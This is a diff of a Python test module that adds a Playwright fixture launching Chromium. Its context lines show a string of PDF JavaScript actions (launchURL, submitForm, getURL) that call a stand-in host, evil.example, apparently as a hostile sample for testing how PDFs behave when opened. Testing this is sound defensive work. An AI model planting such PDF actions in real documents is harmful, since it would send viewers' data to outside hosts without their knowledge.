@@ -16,6 +16,7 @@ from conversations import outbound
 from conversations.models import Conversation, Message
 from documents import outgoing
 
+from ..browsing import ARGUMENTS, CHROMIUM
 from .shop import WAITS
 
 # What a PDF may ask its viewer to do when it is opened.
@@ -24,6 +25,16 @@ app.launchURL("https://evil.example/opened", true);
 this.submitForm({cURL: "https://evil.example/sent"});
 this.getURL("https://evil.example/got");
 """
+
+
+@pytest.fixture(scope="module")
+def chromium(here, playwright):
+    """The build without windows shows no PDF."""
+    if CHROMIUM is None:
+        pytest.skip("chromium is not installed")
+    browser = here(playwright.chromium.launch, executable_path=CHROMIUM, args=ARGUMENTS)
+    yield browser
+    here(browser.close)
 
 
 def green_page() -> bytes:
